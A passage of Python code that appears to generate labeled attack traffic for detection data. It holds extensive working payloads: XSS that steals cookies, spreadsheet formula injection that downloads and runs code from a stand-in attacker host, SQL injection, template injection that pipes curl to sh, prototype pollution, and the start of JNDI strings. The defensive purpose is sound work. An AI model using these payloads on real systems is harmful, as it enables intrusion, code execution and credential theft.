        c.upload(label, cat, "chat.teamharbor.io", "/api/v4/files?channel_id=%s" % rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), [("files", content, name, ctype)])


def a_filename(c, cat, name, v=0):
    rng = c.rng
    L = "filename"
    v = v % 4
    if v == 0:
        c.upload(L, cat, "files.cloudbox-drive.com", "/api/v2/upload?parent=%s" % rand_hex(rng, 16), [("file", png_bytes(rng, 3, 3), name, "image/png")])
    elif v == 1:
        c.upload(L, cat, "tidewater.freshdesk.com", "/api/v2/tickets/%d/reply" % rng.randint(1000, 99999),
                 [("body", "<div>Invoice attached, thanks!</div>"), ("attachments[]", "Order summary\nTotal: $64.00\n", name, "text/plain")])
    elif v == 2:
        c.json_req(L, cat, "POST", "app.clearpath-tasks.com", "/api/attachments",
                   {"taskId": rng.randint(1000, 99999), "fileName": name, "size": rng.randint(20000, 900000), "mimeType": "application/pdf"})
    else:
        c.upload(L, cat, "chat.teamharbor.io", "/api/v4/files?channel_id=%s" % rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"),
                 [("files", "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", name, "application/pdf")])


def a_query(c, cat, host, uri, **kw):
    return c.get("query", cat, host, uri, **kw)


def a_header(c, cat, name, value, v=0):
    """A content request whose payload is in a header that the app stores and shows."""
    rng = c.rng
    L = "header"
    v = v % 3
    ua = value if name == "User-Agent" else None
    extra = [] if name == "User-Agent" else [(name, value)]
    if v == 0:
        c.form_post(L, cat, "blog.fernhill-studio.com", "/wp-comments-post.php",
                    [("comment", rng.choice(COMMENTS)), ("author", rng.choice(NAMES)), ("email", rng.choice(EMAILS)), ("url", ""), ("submit", "Post Comment"),
                     ("comment_post_ID", str(rng.randint(1, 9000))), ("comment_parent", "0")], ua=ua, extra=extra)
    elif v == 1:
        c.json_req(L, cat, "POST", "www.rivertown-gazette.com", "/api/comments", {"articleId": rng.randint(10000, 99999), "body": rng.choice(COMMENTS), "displayName": rng.choice(NAMES)},
                   ua=ua, extra=extra)
    else:
        c.get(L, cat, "www.rivertown-gazette.com", "/2024/06/%s" % rng.choice(["council-approves-cycle-lane", "museum-new-wing-opens", "farmers-market-returns"]), ua=ua, extra=extra)


# --------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------

def b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def atk_xss(c):
    X = "xss"
    steal = "fetch('https://%s/c?'+encodeURIComponent(document.cookie))" % ATK
    html_payloads = [
        '<p><img src="/wp-content/uploads/2024/06/team-photo-1024x768.jpg" alt="The team" width="640" onload="%s"></p>' % steal,
        '<p><img src="x" alt="chart" width="300" onerror="%s"></p>' % steal,
        '<p><a href="javascript:alert(document.domain)">Read the full report</a></p>',
        '<p>Invoice: <a href="&#x6A;avascript&#x3A;fetch(\'//%s/\'+document.cookie)">INV-2024-0631</a></p>' % ATK,
        '<p><a href="java&Tab;script:alert(document.cookie)">details</a></p>',
        '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">minutes</a></p>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">agenda</a>',
        '<iframe srcdoc="&lt;script&gt;parent.location=\'https://%s/?c=\'+parent.document.cookie&lt;/script&gt;" width="0" height="0"></iframe>' % ATK,
        '<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>"></noscript>',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(document.cookie)>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<svg><style><img src=x onerror="%s"></style></svg>' % steal,
        '<a id="defaultAvatar"></a><a id="defaultAvatar" name="avatar" href="cid:&quot;onerror=alert(document.domain)//">',
        '<form id="x" tabindex="0" onfocus="alert(document.cookie)"><input id="attributes">',
        '<div style="width: expression(alert(document.cookie));">Sponsored</div>',
        '<p style="behavior: url(/wp-content/uploads/2024/06/banner.htc);">Banner</p>',
        '<div style="-moz-binding: url(\'https://%s/xss.xml#xss\')">Hello</div>' % ATK,
        '<p style="background-image: url(&quot;javascript:alert(document.domain)&quot;);">Notice</p>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(document.cookie)">',
        '<base href="https://%s/">' % ATK,
        '<details open ontoggle="%s"><summary>More</summary>Details inside</details>' % steal,
        '<form action="/account/email" method="post"><button formaction="javascript:alert(document.cookie)">Save changes</button></form>',
        '<svg width="120" height="40"><a xlink:href="javascript:alert(document.domain)"><rect width="120" height="40" fill="#eee"/><text x="10" y="25">Open</text></a></svg>',
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">Click me</text></a></svg>',
        '<object data="javascript:alert(document.domain)"></object>',
        '<video><source onerror="%s"></video>' % steal,
        '<audio src="/media/none.mp3" onerror="alert(document.cookie)"></audio>',
        '<input autofocus onfocus="alert(document.cookie)" value="search">',
        '<p>cc <span class="mention" data-id="4417" data-label="Priya" onmouseover="fetch(\'https://%s/k?\'+localStorage.getItem(\'token\'))">@Priya</span></p>' % ATK,
        '<a href="vbscript:MsgBox(document.cookie)">Open in Word</a>',
        '<script src="https://%s/hook.js"></script>' % ATK,
        '<marquee onstart="alert(document.domain)">Breaking news</marquee>',
        '<div onpointerenter="alert(document.cookie)" style="position:fixed;inset:0">&nbsp;</div>',
        '<a href="data:text/html,<script>alert(document.domain)</script>">Preview</a>',
        '<math><maction actiontype="statusline#https://example.com" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
        '<iframe src="javascript:alert(document.cookie)"></iframe>',
        '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#99;&#111;&#111;&#107;&#105;&#101;&#41;">',
        '<svg onload=alert&#40;document.domain&#41;>',
        '<x contenteditable onblur="alert(document.cookie)">lose focus!</x>',
        '<img src=1 onerror="import(\'//%s/x.js\')">' % ATK,
        '<p><iframe width="560" height="315" src="https://www.youtube.com/embed/aqz-KE-bpKQ" title="YouTube video player" frameborder="0" allowfullscreen onload="%s"></iframe></p>' % steal,
        '<ScRiPt>alert(document.domain)</sCrIpT>',
        '<scr<script>ipt>alert(document.cookie)</scr</script>ipt>',
        '<svg><script>alert&#40;document.domain&#41;</script></svg>',
        '<img src=x oNeRrOr=alert`document.domain`>',
        '<img/src="x"/onerror=alert(document.cookie)>',
        '<svg><animate onbegin="alert(document.domain)" attributeName="x" dur="1s"/></svg>',
        '<body onload="alert(document.cookie)">',
        '<a href="#" onclick="location=\'https://%s/?c=\'+document.cookie;return false">Download the PDF</a>' % ATK,
        '<img src="x" onerror="\\u0061lert(document.domain)">',
        '<style>@import url("https://%s/steal.css");</style><p>Styled post</p>' % ATK,
        'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
        '<a href="javascript&colon;alert(document.domain)">Report</a>',
    ]
    for i, p in enumerate(html_payloads):
        if i % 4 == 3:
            a_comment(c, X, p, v=i, field="body")
        else:
            a_editor_html(c, X, p, v=i)

    # editor JSON models
    js_urls = ["javascript:alert(document.cookie)", "javascript:fetch('https://%s/?c='+document.cookie)" % ATK, "JaVaScRiPt:alert(document.domain)",
               "javascript://%0Aalert(document.domain)", " javascript:alert(1)", "data:text/html;base64," + b64("<script>alert(document.domain)</script>"),
               "javascript:eval(atob('%s'))" % b64("fetch('//%s/'+document.cookie)" % ATK), "\tjavascript:alert(1)", "vbscript:msgbox(1)", "java\nscript:alert(document.cookie)"]
    slots = ["quill-link", "quill-video", "pm-link", "pm-iframe", "draft-link", "slate-link", "ejs-embed", "lexical-link", "notion-bookmark", "notion-textlink", "ejs-link", "notion-embed"]
    for i, s in enumerate(slots):
        a_editor_json(c, X, js_urls[i % len(js_urls)], s)
    for s, p in [("quill-text", '<img src=x onerror="%s">' % steal), ("pm-html", '<img src=x onerror=alert(document.domain)>'), ("pm-html", '<script>alert(document.cookie)</script>'),
                 ("ejs-raw", '<script src="https://%s/x.js"></script>' % ATK), ("ejs-para", 'Totally normal <img src=x onerror=alert(document.cookie)> paragraph'),
                 ("pm-image", 'x" onerror="alert(document.domain)'), ("draft-img", 'x" onerror="alert(1)'), ("slate-text", '<svg onload=alert(document.domain)>'),
                 ("lexical-text", '<iframe src=javascript:alert(1)>'), ("notion-text", '"><script>alert(document.cookie)</script>'), ("ejs-para", '<a href="javascript:alert(1)">docs</a>'),
                 ("quill-attr", {"link": "https://example.com", "class": "x\" onmouseover=\"alert(1)"})]:
        a_editor_json(c, X, p, s)

    # markdown
    md = [
        "[Click here for the logs](javascript:alert(document.cookie))",
        "[docs](JaVaScRiPt:alert(document.domain))",
        "[a](javascript:window.onerror=alert;throw%20document.cookie)",
        "[release notes](javascript://%0Aalert(document.domain))",
        "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
        "![logo](https://example.com/logo.png\"onerror=\"alert(document.domain))",
        "![Uh oh...](\"onerror=\"alert('XSS'))",
        "See the [full report][1].\n\n[1]: javascript:alert(document.domain)",
        "Details in the [runbook][rb].\n\n[rb]: <javascript:fetch('//%s/'+document.cookie)>" % ATK,
        "<details open ontoggle=alert(document.domain)><summary>Logs</summary>nothing here</details>",
        "<javascript:alert(document.cookie)>",
        "[preview](data:text/html;base64,%s)" % b64("<script>alert(document.domain)</script>"),
        "<img src=\"x\" onerror=\"alert(document.cookie)\">",
        "[![Build](https://img.shields.io/badge/build-passing-green)](javascript:alert(1))",
        "```mermaid\ngraph LR\n    A[Start] --> B[Deploy]\n    click A \"javascript:alert(document.domain)\"\n```",
        "The identity $\\href{javascript:alert(document.cookie)}{e^{i\\pi}+1=0}$ is neat.",
        "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
    ]
    for i, p in enumerate(md):
        a_markdown(c, X, p, v=i)

    # comments and profile fields
    for i, (p, f) in enumerate([
        ("{{constructor.constructor('alert(document.cookie)')()}}", "body"),
        ("{{_c.constructor('alert(document.domain)')()}}", "body"),
        ("\uff1cscript\uff1ealert(document.cookie)\uff1c/script\uff1e", "body"),
        ("\uff1cimg src=x onerror=alert(document.domain)\uff1e", "name"),
        ("\"><svg/onload=alert(document.domain)>", "name"),
        ("</textarea><script>alert(document.cookie)</script>", "body"),
        ("</title><script>alert(1)</script>", "title"),
        ("<img src=x onerror=alert(document.domain)//", "body"),
        ("javascript:alert(document.cookie)", "url"),
        ("https://renee-oconnor.ie\" onmouseover=\"alert(document.cookie)", "url"),
        ("<svg/onload=location='//%s/?'+document.cookie>" % ATK, "bio"),
        ("test@example.com<script>alert(1)</script>", "email"),
    ]):
        a_comment(c, X, p, v=i, field=f)

    # SVG uploads
    svgs = [
        '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.domain)"><circle cx="50" cy="50" r="40" fill="#27AE60"/></svg>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M3 9l9-7 9 7v11a2 2 0 0 1-2 2H5a2 2 0 0 1-2-2z"/>\n<script type="text/javascript">\n  fetch("https://%s/c?" + document.cookie);\n</script>\n</svg>' % ATK,
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><foreignObject width="200" height="200"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(document.domain)"></iframe></body></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(document.cookie)"><rect width="100" height="100" fill="red"/></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(document.domain)"/><text x="10" y="20">Click</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(document.domain)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,%s#x"/></svg>' % b64('<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="alert(1)"/></svg>'),
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><circle cx="32" cy="32" r="30" fill="url(#g)"/><animate onbegin="alert(document.cookie)" attributeName="r" from="30" to="31" dur="1s"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><script href="https://%s/x.js"/></svg>' % ATK,
    ]
    for i, s in enumerate(svgs):
        a_svg(c, X, s, v=i)

    # file names
    for i, n in enumerate(['"><img src=x onerror=alert(document.domain)>.jpg', "<svg onload=alert(document.cookie)>.png",
                           "'><script src=//%s/x.js></script>.pdf" % ATK, "invoice<iframe src=javascript:alert(1)>.pdf"]):
        a_filename(c, X, n, v=i)

    # query strings of search / preview pages
    for host, uri in [
        ("www.rivertown-gazette.com", "/search?q=" + q("<script>alert(document.cookie)</script>")),
        ("shop.mapleandoak.com", "/search?q=" + q('"><svg/onload=alert(document.domain)>') + "&type=product"),
        ("community.saltmarsh.org", "/search?q=" + q("'-alert(document.domain)-'") + "&expanded=true"),
        ("community.saltmarsh.org", "/tags/" + qp("<img src=x onerror=alert(1)>")),
        ("cms.lighthouse-press.org", "/api/oembed?url=" + q("https://www.youtube.com/watch?v=aqz-KE-bpKQ") + "&format=json&callback=" + q("alert(document.domain)//")),
        ("kb.brightlane.co", "/preview?html=" + q("<p>Draft</p><img src=x onerror=alert(document.cookie)>")),
        ("www.rivertown-gazette.com", "/search?q=" + q("<a href=javascript:alert(1)>click</a>") + "&sort=date"),
    ]:
        a_query(c, X, host, uri)

    # headers that comment systems store and admins read
    for i, (hn, hv) in enumerate([("User-Agent", "<script>alert(document.cookie)</script>"),
                                  ("Referer", 'https://www.google.com/"><script src=//%s/a.js></script>' % ATK),
                                  ("X-Forwarded-For", "<img src=x onerror=alert(document.domain)>"),
                                  ("User-Agent", "Mozilla/5.0 (Windows NT 10.0) <svg onload=alert(1)>")]):
        a_header(c, X, hn, hv, v=i)

    # iCal / vCard
    for i, (p, prop) in enumerate([('<img src=x onerror="alert(document.domain)">', "X-ALT-DESC"),
                                   ('Join here: <a href="javascript:alert(document.cookie)">meeting link</a>', "DESCRIPTION"),
                                   ("<svg/onload=alert(document.domain)>", "LOCATION"),
                                   ("<script>alert(document.cookie)</script>", "FN"),
                                   ("javascript:alert(document.domain)", "URL-VC"),
                                   ('<img src=x onerror=alert(1)>', "NOTE"),
                                   ('<iframe src="javascript:alert(1)">', "JSON:description")]):
        a_ical(c, X, p, prop=prop, v=i)

    # inbound mail shown in a help desk
    for i, (p, f) in enumerate([('<img src="x" onerror="%s">' % steal, "html"), ("<svg onload=alert(document.domain)>", "subject"),
                                ('"<img src=x onerror=alert(1)>" <customer@gmail.com>', "from"),
                                ('<a href="javascript:alert(document.cookie)">View your order</a>', "html"),
                                ('<iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe>', "html"),
                                ("<script>alert(document.cookie)</script>", "text")]):
        a_mail(c, X, p, field=f, v=i)

    # CSV cells rendered into HTML after import
    for i, p in enumerate(['<img src=x onerror=alert(document.domain)>', '<script>alert(document.cookie)</script>', '"><svg onload=alert(1)>']):
        a_csv(c, X, p, v=i, col=1)


def atk_generic(c):
    G = "generic"
    formulas = [
        "=cmd|' /C calc'!A0",
        "=cmd|' /C powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://%s/s.ps1')\"'!A0" % ATK,
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!'A1'",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://%s/?leak=\"&A2&\"-\"&B2,\"Click to verify your account\")" % ATK,
        "=IMPORTXML(CONCAT(\"http://%s/x?d=\",CONCATENATE(A1:E1)),\"//a\")" % ATK,
        "=WEBSERVICE(\"http://%s/log?v=\"&ENCODEURL(C2))" % ATK,
        "=IMAGE(\"https://%s/pixel.png?id=\"&B2)" % ATK,
        "=IMPORTDATA(CONCATENATE(\"http://%s/log?\",A2,\",\",C2))" % ATK,
        "=IMPORTFEED(\"http://%s/?\"&A1&B1)" % ATK,
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=cmd|'/c mshta http://%s/p.hta'!A1" % ATK,
        "=cmd|'/C bitsadmin /transfer x http://%s/x.exe %%TEMP%%\\x.exe & %%TEMP%%\\x.exe'!A0" % ATK,
        "@cmd|'/c calc'!_xlbgnm.A1",
        "=HYPERLINK(CONCATENATE(\"http://%s:8080/?\",A2,B2),\"Error: click to fix\")" % ATK,
        "=cmd|'/C certutil -urlcache -split -f http://%s/a.exe a.exe && a.exe'!A0" % ATK,
        "=WEBSERVICE(CONCATENATE(\"http://%s/\",'file:///etc/passwd'#$passwd.A1))" % ATK,
        "='file:///etc/passwd'#$passwd.A1",
        "+HYPERLINK(\"https://%s/reset\",\"Reset password\")" % ATK,
        "=2+5+cmd|' /C calc'!A0",
        "=SUM(1+1)*cmd|' /C explorer \\\\%s\\share'!A0" % ATK,
    ]
    for i, f in enumerate(formulas):
        r = i % 6
        if r in (0, 1, 2):
            a_csv(c, G, f, v=i, col=rng_col(i))
        elif r == 3:
            a_comment(c, G, f, v=[0, 1, 3, 4, 6][i % 5], field=["name", "body", "title", "name", "bio"][i % 5])
        elif r == 4:
            a_ical(c, G, f, prop=["SUMMARY", "ORG", "FN", "LOCATION", "JSON:summary"][i % 5], v=i)
        else:
            a_mail(c, G, f, field=["subject", "form-name", "form-subject", "from"][i % 4], v=i)
    # sign-up / RSVP / survey fields that end up in an export
    c.json_req("comment", G, "POST", "events.saltmarsh.org", "/api/rsvp", {"eventId": 311, "name": "=cmd|' /C calc'!A0", "guests": 1, "dietary": "none", "comment": "See you there!", "consent": True})
    c.json_req("comment", G, "POST", "forms.brightlane.co", "/api/forms/feedback/responses", {"answers": {"q1": "Very satisfied", "q2": "=HYPERLINK(\"http://%s/?\"&A1,\"More info\")" % ATK, "q3": "@SUM(1+9)*cmd|' /C calc'!A0"}})
    c.form_post("comment", G, "jobs.northbank-council.gov.uk", "/apply/4471", [("name", "-1+1+cmd|' /C calc'!A0"), ("email", "applicant@example.com"), ("cover_letter", "Please find my CV attached."), ("right_to_work", "yes")])
    # prototype pollution in editor JSON merges
    a_editor_json(c, G, {"__proto__": {"isAdmin": True}, "link": "https://example.com"}, "quill-attr")
    a_editor_json(c, G, {"type": "doc", "content": [{"type": "paragraph", "content": [{"type": "text", "text": "hi"}]}], "constructor": {"prototype": {"allowUnsafeHtml": True}}}, "raw")
    a_query(c, G, "cms.lighthouse-press.org", "/api/articles/812?__proto__[sanitize]=false&__proto__[role]=admin")
    c.json_req("comment", G, "PATCH", "app.clearpath-tasks.com", "/api/me/settings", {"theme": "dark", "__proto__": {"isAdmin": True, "canPublish": True}})


def rng_col(i):
    return [1, 2, 3, 5, 0, 4][i % 6]


def atk_sqli(c):
    S = "sqli"
    for host, uri in [
        ("www.rivertown-gazette.com", "/search?q=" + q("' OR '1'='1' -- ")),
        ("shop.mapleandoak.com", "/search?q=" + q("mug' UNION SELECT username,password,3 FROM users-- -") + "&type=product"),
        ("community.saltmarsh.org", "/tags/filter?tag=" + q("gardening') UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- ")),
        ("cms.lighthouse-press.org", "/api/articles?sort=" + q("created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)") + "&limit=20"),
        ("www.rivertown-gazette.com", "/comments?article=4512&page=" + q("1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)")),
        ("blog.fernhill-studio.com", "/?author_name=" + q("admin'/**/OR/**/1=1#")),
        ("recipes.hearthside.kitchen", "/recipes?category=" + q("-1 UNION/**/SELECT/**/1,group_concat(email,0x3a,password),3 FROM users")),
        ("jobs.northbank-council.gov.uk", "/search?q=" + q("nurse' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -") + "&location=Leith"),
        ("kb.brightlane.co", "/api/v2/articles/search?query=" + q("reset' || (SELECT pg_sleep(5))--") + "&locale=en-us"),
        ("community.saltmarsh.org", "/search?q=" + q("1' AND ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>64-- ")),
        ("shop.mapleandoak.com", "/products?order=" + q("(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE username='admin')='a' THEN title ELSE price END)")),
        ("www.rivertown-gazette.com", "/archive?year=2024&month=" + q("06' UNION SELECT banner,NULL FROM v$version--")),
    ]:
        a_query(c, S, host, uri)
    for i, (p, f) in enumerate([
        ("Nice post', (SELECT password FROM users WHERE id=1))-- -", "body"),
        ("Robert'); DROP TABLE comments;--", "name"),
        ("a@b.co' AND updatexml(1,concat(0x7e,(SELECT user())),1) AND '1'='1", "email"),
        ("1';WAITFOR DELAY '0:0:5'--", "body"),
        ("Great product' UNION SELECT sql FROM sqlite_master--", "title"),
        ("x' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--", "name"),
        ("1; EXEC xp_cmdshell 'whoami'--", "body"),
        ("' OR 1=1 LIMIT 1 OFFSET 0 --", "bio"),
    ]):
        a_comment(c, S, p, v=i, field=f)
    c.form_post("comment", S, "shop.mapleandoak.com", "/products/oak-serving-board/reviews",
                [("authenticity_token", rand_token(c.rng, 86)), ("review[rating]", "5,(select sleep(5)))-- -"), ("review[title]", "Love it"), ("review[body]", "Solid board."), ("review[author]", "Dana")])
    a_editor_json(c, S, "Q3 plan' || (SELECT pg_sleep(5))--", "notion-text")
    c.json_req("editor-json", S, "POST", "hub.kestrel-media.net", "/graphql",
               {"operationName": "SaveDraft", "variables": {"id": "1 UNION SELECT id,email,password_hash,NULL FROM users--", "raw": jdump(draft_raw(c.rng, filler(c.rng, 1)))},
                "query": "mutation SaveDraft($id: ID!, $raw: String!) { saveDraft(id: $id, raw: $raw) { id updatedAt } }"})
    c.json_req("editor-json", S, "PATCH", "docs.tessellate.so", "/api/documents/%s" % rand_uuid(c.rng),
               {"title": "Roadmap", "content": prosemirror_doc(c.rng, filler(c.rng, 1)), "version": "12 OR 1=1; UPDATE documents SET owner_id=1337--"})
    c.json_req("markdown", S, "POST", "git.ourteam.dev", "/api/v1/repos/acme/widgets/issues", {"title": "Crash on export", "body": markdown_doc(c.rng), "labels": ["bug') OR 1=1--"]})
    for i, p in enumerate(["1; DROP TABLE contacts--", "' UNION SELECT email,password FROM users--", "x@y.z' OR '1'='1", "1 AND 1=(SELECT COUNT(*) FROM pg_user)--"]):
        a_csv(c, S, p, v=i, col=[0, 1, 2, 3][i])
    for i, (p, prop) in enumerate([("abc' OR 1=1--", "UID"), ("Standup'; WAITFOR DELAY '0:0:5'--", "SUMMARY"), ("O'Connor' UNION SELECT login,password,NULL FROM users-- -", "FN"),
                                   ("dana@example.com'); DELETE FROM events;--", "JSON:attendee")]):
        a_ical(c, S, p, prop=prop, v=i)
    for i, (p, f) in enumerate([("attacker@evil.example' OR '1'='1", "from"), ("Re: order 58213' AND SLEEP(5)-- ", "subject"),
                                ("In-Reply-To: <x' UNION SELECT ticket_id,body FROM tickets-- @mail.gmail.com>", "headers")]):
        a_mail(c, S, p, field=f, v=i)
    for i, n in enumerate(["report' OR '1'='1.pdf", "x'; DROP TABLE files;--.jpg", "1.jpg' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"]):
        a_filename(c, S, n, v=i)
    for i, (hn, hv) in enumerate([("X-Forwarded-For", "127.0.0.1' AND SLEEP(5)-- -"), ("User-Agent", "Mozilla/5.0' AND (SELECT 1 FROM pg_sleep(5))-- "),
                                  ("Referer", "https://www.google.com/' UNION SELECT password FROM users-- ")]):
        a_header(c, S, hn, hv, v=i)


def atk_ssti(c):
    T = "ssti"
    payloads = [
        ("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", "jinja2"),
        ("{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}", "jinja2"),
        ("{{ config.__class__.__init__.__globals__['os'].popen('curl http://%s/x|sh').read() }}" % ATK, "jinja2"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "jinja2"),
        ("{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}", "jinja2"),
        ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"whoami\").read()}}{% endif %}{% endfor %}", "jinja2"),
        ("{{ lipsum.__globals__[\"os\"].popen('id').read() }}", "jinja2"),
        ("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}", "jinja2"),
        ("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "twig"),
        ("{{['id']|filter('system')}}", "twig"),
        ("{{['cat /etc/passwd']|map('system')|join}}", "twig"),
        ("<%= system(\"id\") %>", "erb"),
        ("<%= `cat /etc/passwd` %>", "erb"),
        ("<%= IO.popen('id').readlines() %>", "erb"),
        ("<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }", "freemarker"),
        ("${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}", "freemarker"),
        ("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()", "velocity"),
        ("{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n      {{#with string.split as |codelist|}}\n        {{this.pop}}\n        {{this.push \"return require('child_process').execSync('id');\"}}\n        {{this.pop}}\n        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}", "handlebars"),
        ("{{ get_flashed_messages.__globals__.__builtins__.open(\"/etc/passwd\").read() }}", "jinja2"),
        ("{{['id',\"\"]|sort('system')|join}}", "twig"),
        ("__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x", "thymeleaf"),
        ("${T(java.lang.Runtime).getRuntime().exec('curl http://%s/s.sh -o /tmp/s.sh')}" % ATK, "spel"),
        ("{system('id')}", "smarty"),
        ("{php}echo `id`;{/php}", "smarty"),
        ("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}", "smarty"),
        ("<% import os; x=os.popen('id').read() %>${x}", "mako"),
        ("#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('curl http://%s/p|sh')}()}" % ATK, "pug"),
        ("{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "nunjucks"),
        ("{% import os %}{{os.popen(\"id\").read()}}", "tornado"),
        ("@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")", "razor"),
        ("<%= global.process.mainModule.require('child_process').execSync('id') %>", "ejs"),
        ("{{ settings.SECRET_KEY }}{% debug %}", "django"),
        ("${{<%[%'\"}}%\\.", "probe"),
        ("{{7*7}}${7*7}<%= 7*7 %>${{7*7}}#{7*7}*{7*7}", "probe"),
    ]
    for i, (p, eng) in enumerate(payloads):
        r = i % 8
        if r == 0:
            a_comment(c, T, p, v=i, field=["body", "name", "bio", "title"][i // 8 % 4])
        elif r == 1:
            a_editor_html(c, T, "<p>Hi {{ first_name }},</p><p>%s</p>" % esc(p), v=6 if i % 2 else i)
        elif r == 2:
            a_markdown(c, T, p, v=i)
        elif r == 3:
            a_ical(c, T, p, prop=["SUMMARY", "DESCRIPTION", "FN", "JSON:summary"][i // 8 % 4], v=i)
        elif r == 4:
            a_mail(c, T, p, field=["subject", "form-name", "text", "form-message"][i // 8 % 4], v=i)
        elif r == 5:
            a_csv(c, T, p, v=i, col=0)
        elif r == 6:
            a_editor_json(c, T, p, ["quill-text", "pm-text", "slate-text", "lexical-text", "notion-text"][i // 8 % 5])
        else:
            a_query(c, T, rng_pick(c, ["mail.campaigns.brightlane.co", "kb.brightlane.co"]), "/preview?template=" + q(p) + "&name=" + q("Dana"))


def rng_pick(c, seq):
    return c.rng.choice(seq)


def atk_java(c):
    J = "java"
    jndi = [
        "${jndi:ldap://%s:1389/a}" % ATK,
        "${jndi:${lower:l}${lower:d}a${lower:p}://%s/x}" % ATK,
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/o}" % ATK,
